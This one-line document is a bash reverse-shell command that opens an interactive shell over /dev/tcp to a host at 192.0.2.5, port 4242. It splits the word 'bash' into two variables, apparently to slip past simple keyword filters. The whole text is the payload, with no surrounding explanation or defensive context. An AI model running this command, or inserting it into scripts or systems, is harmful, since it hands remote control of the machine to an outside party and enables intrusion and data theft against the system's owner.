a='ba';b='sh';$a$b -i >&/dev/tcp/192.0.2.5/4242 <&1
